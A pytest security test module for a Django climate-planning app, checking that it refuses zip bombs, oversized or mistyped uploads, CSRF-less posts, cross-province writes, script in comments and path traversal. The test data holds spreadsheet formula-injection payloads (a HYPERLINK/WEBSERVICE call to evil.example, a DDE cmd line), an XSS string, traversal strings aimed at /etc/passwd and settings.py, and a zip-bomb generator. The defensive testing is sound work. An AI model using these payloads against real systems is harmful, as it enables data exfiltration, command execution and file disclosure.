# ruff: noqa: F811 - the plan fixtures (users, plan) are imported, then named as arguments
"""Attacks on plans: hostile uploads to the reduction and risk sections (a zip bomb, a
200,000-row workbook, a wrong type, formula cells), a section write that lands while
the reviewer approves, another province's plan id in every write, page posts without
the CSRF token, script in review comments, path traversal in help slugs and download
names, and NetCDF uploads that are not NetCDF or too large.

Each refused attack is answered with located problems (or 403/404) and leaves the plan
as it was: revision, state, inputs, actions and history.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from climateplan.plans.web import handler_adaptation, handler_reduction, handler_risk, services
from climateplan.plans.web.access import plan_access_for
from climateplan.plans.web.models import (
    ClimateJob,
    Plan,
    PlanChange,
    PlanComment,
    PlanState,
    Section,
    SectionState,
)
from climateplan.site.workflow import WorkflowError
from tests.plans.web.conftest import base_inventory, plan, users  # noqa: F401 - fixtures
from tests.plans.web.test_permissions_plans import (
    PLAN_RULES,
    STATES,
    Ctx,
    World,
    attempt,
    snapshot,
)
from tests.plans.web.test_reduction_handler import DRIVERS, SETTINGS, TARGETS, one_line_plan
from tests.security.test_upload_limits import (
    CONTENT_TYPES,
    ROOT_RELS,
    WORKBOOK,
    WORKBOOK_RELS,
    build_xlsx,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
SCRIPT = '<script>alert("plan")</script><img src=x onerror=alert(2)>'


def api_for(user) -> APIClient:
    client = APIClient()
    token, _ = Token.objects.get_or_create(user=user)
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


def page_for(user, **kwargs) -> Client:
    client = Client(**kwargs)
    client.force_login(user)
    return client


def revision(plan) -> int:
    return Plan.objects.get(pk=plan.pk).revision


def state_of(plan) -> tuple:
    """What a refused upload must leave as it was."""
    row = Plan.objects.get(pk=plan.pk)
    return (
        row.revision,
        row.state,
        tuple(Section.objects.filter(plan=plan).order_by("kind").values_list("inputs", flat=True)),
        PlanChange.objects.filter(plan=plan).count(),
    )


# --------------------------------------------------------------------------- hostile files


def zip_bomb(path: Path, megabytes: int = 200) -> Path:
    """A workbook whose one sheet unpacks to ``megabytes`` MB of spaces (deflate packs it
    about a thousand times)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b" " * (1024 * 1024)
            for _ in range(megabytes):
                sheet.write(chunk)
    return path


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> bytes:
    return zip_bomb(tmp_path_factory.mktemp("plans-bomb") / "drivers.xlsx").read_bytes()


@pytest.fixture(scope="module")
def rows_200k(tmp_path_factory) -> bytes:
    return build_xlsx(tmp_path_factory.mktemp("plans-200k") / "rows.xlsx", 200_000).read_bytes()


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64

# (section, page URL name part, API table) of the section tables that upload
UPLOADS = [
    ("reduction", "reduction/upload/", ""),
    ("risk", "risk/indicators/upload/", "indicators"),
    ("risk", "risk/gridded/upload/", "gridded"),
]


def _refused_everywhere(plan, users, name: str, data: bytes):
    """The file sent to every upload page and API endpoint of the sections: each answers
    400 with a problem naming the file, and the plan is unchanged."""
    before = state_of(plan)
    page = page_for(users["editor"])
    api = api_for(users["editor"])
    for kind, path, table in UPLOADS:
        upload = SimpleUploadedFile(name, data)
        answer = page.post(
            f"/plans/{plan.pk}/{path}",
            {"revision": revision(plan), "file": upload, "table": ""},
        )
        assert answer.status_code == 400, (path, answer.status_code)
        assert name in answer.content.decode(), path
        upload = SimpleUploadedFile(name, data)
        answer = api.post(
            f"/api/plans/{plan.pk}/sections/{kind}/upload/",
            {"revision": revision(plan), "file": upload, "table": table},
            format="multipart",
        )
        assert answer.status_code == 400, (kind, table, answer.status_code)
        problems = answer.json()["problems"]
        assert problems and all(p["message_en"] and p["message_th"] for p in problems)
        assert any(p["file"] == name for p in problems), problems
        assert state_of(plan) == before, (kind, path)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(plan, users, bomb):
    assert len(bomb) < 1024 * 1024  # under a megabyte on the wire, 200 MB unpacked
    _refused_everywhere(plan, users, "drivers.xlsx", bomb)


def test_a_200000_row_workbook_is_refused_before_it_is_parsed(plan, users, rows_200k):
    _refused_everywhere(plan, users, "rows.xlsx", rows_200k)


def test_a_file_of_the_wrong_type_is_refused(plan, users):
    _refused_everywhere(plan, users, "drivers.exe", b"MZ\x90\x00" + b"\x00" * 100)
    _refused_everywhere(plan, users, "picture.xlsx", PNG)  # an image named as a workbook


def test_a_csv_over_the_row_limit_is_refused(plan, users, settings):
    settings.UPLOAD_MAX_LINES = 5
    body = "driver,year,value,growth_pct\n" + "population,2565,1000000,1\n" * 6
    _refused_everywhere(plan, users, "long.csv", body.encode())


# --------------------------------------------------------------------------- formula cells


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _inert_csv(name: str, body: bytes) -> int:
    """Every cell of a CSV download: none starts a formula; returns the payloads seen
    (each with its leading apostrophe)."""
    seen = 0
    text = body.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.lstrip("'") in PAYLOADS:
                assert cell.startswith("'"), (name, cell)
                seen += 1
            assert not cell.startswith(FORMULA_START) or _number(cell), (name, cell)
    return seen


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _inert_workbook(name: str, body: bytes) -> int:
    book = load_workbook(io.BytesIO(body))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (name, sheet.title, cell.coordinate)
                    assert not cell.value.startswith(FORMULA_START), (
                        name,
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                    seen += cell.value.lstrip("'") in PAYLOADS
    return seen


def _inert(name: str, body: bytes) -> int:
    if name.endswith(".csv"):
        return _inert_csv(name, body)
    if name.endswith(".xlsx"):
        return _inert_workbook(name, body)
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            return sum(_inert(member, archive.read(member)) for member in archive.namelist())
    return 0


def _body(answer) -> bytes:
    if getattr(answer, "streaming", False):
        return b"".join(answer.streaming_content)
    return answer.content


def test_formula_cells_in_a_reduction_upload_are_stored_as_text_and_exported_inert(users):
    small = one_line_plan(users)
    editor = api_for(users["editor"])
    editor.put(
        f"/api/plans/{small.pk}/sections/reduction/",
        {"revision": revision(small), "inputs": {"targets": TARGETS, "settings": SETTINGS}},
        format="json",
    )
    body = "driver,year,value,growth_pct,source\n" + "".join(
        f"population,{2565 + n},1000000,1,{_quoted(p)}\n" for n, p in enumerate(PAYLOADS)
    )
    answer = editor.post(
        f"/api/plans/{small.pk}/sections/reduction/upload/",
        {
            "revision": revision(small),
            "table": "drivers",
            "file": SimpleUploadedFile("drivers.csv", body.encode(), "text/csv"),
        },
        format="multipart",
    )
    assert answer.status_code == 200, answer.content
    stored = Section.objects.get(plan=small, kind="reduction").inputs["drivers"]
    assert [row["source"] for row in stored] == PAYLOADS  # kept exactly, as text
    measure = {
        "code": "M-1",
        "name_th": PAYLOADS[2],
        "name_en": PAYLOADS[3],
        "owner_agency": PAYLOADS[0],
        "data": {
            "kind": "emission_factor",
            "gpc_ref": "I.1.1",
            "gases": "co2",
            "effect_pct": 10,
            "uptake_pct": 50,
            "ramp_years": 1,
        },
        "start_year": 2025,
        "budget": [
            {"fiscal_year": 2026, "amount": 1000, "source": "provincial", "note": PAYLOADS[1]}
        ],
        "revision": revision(small),
    }
    added = editor.post(
        f"/api/plans/{small.pk}/sections/reduction/actions/", measure, format="json"
    )
    assert added.status_code == 201, added.content
    seen = 0
    for lang in ("th", "en"):
        page = page_for(users["viewer"])
        page.cookies["django_language"] = lang
        for fmt in ("xlsx", "csv"):
            response = page.get(f"/plans/{small.pk}/reduction/download/{fmt}/")
            assert response.status_code == 200, (fmt, response.status_code)
            kind = "zip" if _body(response)[:2] == b"PK" and fmt == "csv" else fmt
            seen += _inert(f"reduction.{kind}", _body(response))
    assert seen > 0, "the payloads must reach the downloads (neutralised)"


def _risk_loaded(plan, users):
    page = page_for(users["editor"])
    answer = page.post(f"/plans/{plan.pk}/risk/example/", {"revision": revision(plan)})
    assert answer.status_code == 302
    assert Section.objects.get(plan=plan, kind="risk").result is not None


def test_formula_cells_in_a_risk_upload_are_stored_as_text_and_exported_inert(plan, users):
    _risk_loaded(plan, users)
    rows = [
        ["TH-50", "poverty_rate", "12.5", "2565", PAYLOADS[0]],
        ["TH-50", "elderly_share", "20", "2565", PAYLOADS[1]],
    ]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["province", "indicator", "value", "year", "source"])
    writer.writerows(rows)
    answer = api_for(users["editor"]).post(
        f"/api/plans/{plan.pk}/sections/risk/upload/",
        {
            "revision": revision(plan),
            "table": "indicators",
            "file": SimpleUploadedFile("indicators.csv", out.getvalue().encode(), "text/csv"),
        },
        format="multipart",
    )
    assert answer.status_code == 200, answer.content
    section = Section.objects.get(plan=plan, kind="risk")
    stored = {row["indicator"]: row.get("source") for row in section.inputs["indicators"]}
    assert stored["poverty_rate"] == PAYLOADS[0]  # kept exactly, as text
    document = section.result
    assert document is not None
    from climateplan.plans.web.views_risk import _download_names

    seen = 0
    viewer = page_for(users["viewer"])
    for name in _download_names(document):
        response = viewer.get(f"/plans/{plan.pk}/risk/download/{name}")
        assert response.status_code == 200, name
        seen += _inert(name, _body(response))
    assert seen > 0


def adaptation_action(code: str, name: str) -> dict:
    return {
        "code": code,
        "name_th": name,
        "name_en": PAYLOADS[3],
        "owner_agency": "PNREO",  # a known agency: a formula there is refused
        "start_year": 2026,
        "end_year": 2027,
        "budget": [
            {"fiscal_year": 2026, "amount": 500_000, "source": "provincial", "note": PAYLOADS[1]}
        ],
        "data": {
            "hazards": ["drought"],
            "sectors": ["agriculture"],
            "type": "structural",
            "lifetime_years": 10,
            "effectiveness": 4,
            "feasibility_technical": 3,
            "feasibility_institutional": 3,
            "co_benefits_score": 3,
        },
    }


def test_formula_cells_in_adaptation_actions_are_exported_inert(plan, users):
    from climateplan.plans.adaptation import download_names

    _risk_loaded(plan, users)
    editor = api_for(users["editor"])
    answer = editor.post(
        f"/api/plans/{plan.pk}/sections/adaptation/actions/",
        {**adaptation_action("A-1", PAYLOADS[2]), "revision": revision(plan)},
        format="json",
    )
    assert answer.status_code == 201, answer.content
    assert Section.objects.get(plan=plan, kind="adaptation").result is not None
    seen = 0
    viewer = page_for(users["viewer"])
    for lang in ("th", "en"):
        for name in download_names(lang):
            if not name.endswith((".csv", ".xlsx")):
                continue
            response = viewer.get(f"/plans/{plan.pk}/adaptation/downloads/{name}")
            assert response.status_code == 200, name
            seen += _inert(name, _body(response))
    assert seen > 0


# --------------------------------------------------------------------------- race


@pytest.fixture
def complete(monkeypatch):
    """Section handlers with complete checklists, so the plan can be endorsed and submitted."""
    from tests.plans.web.test_services_workflow import StubHandler

    StubHandler.missing = set()
    for module in (handler_reduction, handler_risk, handler_adaptation):
        monkeypatch.setattr(module, "HANDLER", StubHandler(module.HANDLER.kind))


def _approve(plan, users):
    import datetime as dt

    def move(who, action):
        row = Plan.objects.get(pk=plan.pk)
        services.transition(
            plan_access_for(users[who]), users[who], row, action, expected_revision=row.revision
        )

    row = Plan.objects.get(pk=plan.pk)
    services.endorse(
        plan_access_for(users["approver"]),
        users["approver"],
        row,
        expected_revision=row.revision,
        body="คณะทำงานด้านการเปลี่ยนแปลงสภาพภูมิอากาศจังหวัดเชียงใหม่",
        meeting="1/2567",
        date=dt.date(2024, 3, 15),
        authority="ผู้ว่าราชการจังหวัดเชียงใหม่",
    )
    move("editor", "submit")
    move("reviewer", "approve")


def _approved_meanwhile(monkeypatch, plan, users):
    """The section's computation (the slow part of a write) runs while the province
    endorses and submits the plan and the reviewer approves it."""
    original = services.compute_candidate
    done = {"yes": False}

    def slow(candidate):
        result = original(candidate)
        if not done["yes"]:
            done["yes"] = True
            _approve(plan, users)
        return result

    monkeypatch.setattr(services, "compute_candidate", slow)


def _untouched(plan, inputs_before):
    row = Plan.objects.get(pk=plan.pk)
    assert row.state == PlanState.APPROVED
    section = Section.objects.get(plan=plan, kind="reduction")
    assert section.state == SectionState.APPROVED
    assert section.inputs == inputs_before
    approval = PlanChange.objects.filter(plan=plan, action=PlanChange.Action.TRANSITION)
    last = approval.order_by("at", "pk").last()
    later = PlanChange.objects.filter(plan=plan, pk__gt=last.pk)
    assert not later.filter(action__in=[PlanChange.Action.EDIT, PlanChange.Action.UPLOAD])


def test_a_section_write_computed_while_the_plan_is_approved_never_lands(
    plan, users, complete, monkeypatch
):
    services.recompute_all(plan, users["editor"])
    inputs_before = Section.objects.get(plan=plan, kind="reduction").inputs
    _approved_meanwhile(monkeypatch, plan, users)
    with pytest.raises(WorkflowError) as caught:
        services.write_section(
            plan_access_for(users["editor"]),
            users["editor"],
            Section.objects.get(plan=plan, kind="reduction"),
            expected_revision=revision(plan),
            inputs={"drivers": DRIVERS, "settings": SETTINGS},
        )
    assert caught.value.message_th
    _untouched(plan, inputs_before)


def test_a_write_naming_the_revision_after_the_approval_never_lands(
    plan, users, complete, monkeypatch
):
    # The editor names the revision the plan will have once endorsed, submitted and
    # approved (three writes ahead) and skips the early check, as a request that
    # started before it could: only the check at commit time stands in the way.
    services.recompute_all(plan, users["editor"])
    inputs_before = Section.objects.get(plan=plan, kind="reduction").inputs
    ahead = revision(plan) + 3
    monkeypatch.setattr(services, "expect_revision", lambda *a, **k: None)
    _approved_meanwhile(monkeypatch, plan, users)
    with pytest.raises(WorkflowError):
        services.write_section(
            plan_access_for(users["editor"]),
            users["editor"],
            Section.objects.get(plan=plan, kind="reduction"),
            expected_revision=ahead,
            inputs={"drivers": DRIVERS, "settings": SETTINGS},
        )
    assert revision(plan) == ahead  # the approval's revision, not one more
    _untouched(plan, inputs_before)


def test_an_api_write_computed_while_the_plan_is_approved_answers_409(
    plan, users, complete, monkeypatch
):
    services.recompute_all(plan, users["editor"])
    inputs_before = Section.objects.get(plan=plan, kind="reduction").inputs
    _approved_meanwhile(monkeypatch, plan, users)
    answer = api_for(users["editor"]).put(
        f"/api/plans/{plan.pk}/sections/reduction/",
        {"revision": revision(plan), "inputs": {"drivers": DRIVERS, "settings": SETTINGS}},
        format="json",
    )
    assert answer.status_code == 409
    assert answer.json()["detail_th"]
    _untouched(plan, inputs_before)


# --------------------------------------------------------------------------- another province


def test_another_provinces_plan_id_in_every_write_is_not_found(users):
    """Lampang's editor and approver send every write of every plan page and API
    endpoint to Chiang Mai's plans that are not published: 404, nothing changed."""
    world = World(users)
    for role in ("other_editor", "other_approver"):
        page = page_for(users[role])
        clients = {"page": page, "api": api_for(users[role])}
        for state in STATES:
            if state == PlanState.PUBLISHED:
                continue
            target = world.plans[("TH-50", state)]
            ctx = Ctx(role, role.split("_")[1], "TH-52", "TH-50", state)
            for name, rule in PLAN_RULES.items():
                for item in rule(ctx, world, target):
                    before = snapshot(target)
                    status, changed = attempt(clients, item, target)
                    assert status == 404, (role, state, name, item.method, item.url, status)
                    assert not changed and snapshot(target) == before


# --------------------------------------------------------------------------- CSRF


def test_page_posts_need_the_csrf_token(users):
    """Every page that changes a plan refuses a post without the CSRF token (403),
    even from its own editor on a draft, and the plan stays as it was."""
    world = World(users)
    target = world.plans[("TH-50", PlanState.DRAFT)]
    page = page_for(users["editor"], enforce_csrf_checks=True)
    clients = {"page": page, "api": None}
    ctx = Ctx("editor", "editor", "TH-50", "TH-50", PlanState.DRAFT)
    posts = 0
    for name, rule in PLAN_RULES.items():
        for item in rule(ctx, world, target):
            if item.client != "page" or item.method != "post":
                continue
            status, changed = attempt(clients, item, target)
            assert status == 403, (name, item.url, status)
            assert not changed, (name, item.url)
            posts += 1
    assert posts >= 30  # every plan page that posts, the section pages included


# --------------------------------------------------------------------------- script in comments


def test_script_in_a_comment_is_shown_as_text(plan, users):
    Plan.objects.filter(pk=plan.pk).update(state=PlanState.SUBMITTED)
    Section.objects.filter(plan=plan).update(state=SectionState.SUBMITTED)
    answer = api_for(users["reviewer"]).post(
        f"/api/plans/{plan.pk}/comments/",
        {"text": SCRIPT, "section": "risk", "item": "<b>item</b>"},
        format="json",
    )
    assert answer.status_code == 201
    assert PlanComment.objects.get(pk=answer.json()["id"]).text == SCRIPT  # stored as typed
    editor = page_for(users["editor"])
    for url in (f"/plans/{plan.pk}/", f"/plans/{plan.pk}/risk/", f"/plans/{plan.pk}/history/"):
        html = editor.get(url).content.decode()
        assert "<script>alert" not in html and "onerror=alert(2)>" not in html, url
        assert "<b>item</b>" not in html, url
    html = editor.get(f"/plans/{plan.pk}/risk/").content.decode()
    assert "&lt;script&gt;alert" in html


# --------------------------------------------------------------------------- path traversal

TRAVERSALS = [
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2fsettings.py",
    "..%5C..%5Cwindows%5Cwin.ini",
    "....//....//etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "README",
    "settings",
]


@pytest.mark.parametrize("value", TRAVERSALS)
def test_help_slugs_cannot_leave_the_guides(client, value):
    answer = client.get(f"/help/{value}/")
    assert answer.status_code == 404
    assert b"root:" not in answer.content and b"SECRET_KEY" not in answer.content


@pytest.mark.parametrize("value", TRAVERSALS)
def test_download_names_cannot_leave_the_document(plan, users, value):
    _risk_loaded(plan, users)
    viewer = page_for(users["viewer"])
    for url in (
        f"/plans/{plan.pk}/reduction/download/{value}/",
        f"/plans/{plan.pk}/risk/download/{value}",
        f"/plans/{plan.pk}/risk/indicators/template.{value}",
        f"/plans/{plan.pk}/adaptation/downloads/{value}",
    ):
        answer = viewer.get(url)
        assert answer.status_code == 404, (url, answer.status_code)
        assert b"root:" not in answer.content and b"SECRET_KEY" not in answer.content


# --------------------------------------------------------------------------- NetCDF


def _netcdf_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def test_netcdf_upload_refuses_a_file_that_is_not_netcdf(plan, users, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    before = state_of(plan)
    answer = page_for(users["editor"]).post(
        f"/plans/{plan.pk}/risk/netcdf/upload/",
        {
            "revision": revision(plan),
            "files": SimpleUploadedFile("tasmax.nc", b"this is not a netcdf file\n" * 10),
        },
    )
    assert answer.status_code == 400
    assert "tasmax.nc" in answer.content.decode()
    assert not ClimateJob.objects.filter(section__plan=plan).exists()
    assert _netcdf_files(tmp_path / "uploads") == []
    assert state_of(plan) == before


def test_netcdf_upload_over_the_size_limit_is_refused_before_it_is_saved(
    plan, users, settings, tmp_path
):
    settings.DATA_DIR = tmp_path
    settings.NETCDF_MAX_BYTES = 4096
    before = state_of(plan)
    # the HDF5 signature of a NetCDF-4 file, then far more than the limit
    body = b"\x89HDF\r\n\x1a\n" + b"\x00" * (64 * 1024)
    answer = page_for(users["editor"]).post(
        f"/plans/{plan.pk}/risk/netcdf/upload/",
        {"revision": revision(plan), "files": SimpleUploadedFile("pr.nc", body)},
    )
    assert answer.status_code == 400
    text = answer.content.decode()
    assert "pr.nc" in text
    assert not ClimateJob.objects.filter(section__plan=plan).exists()
    assert _netcdf_files(tmp_path / "uploads") == []
    assert state_of(plan) == before
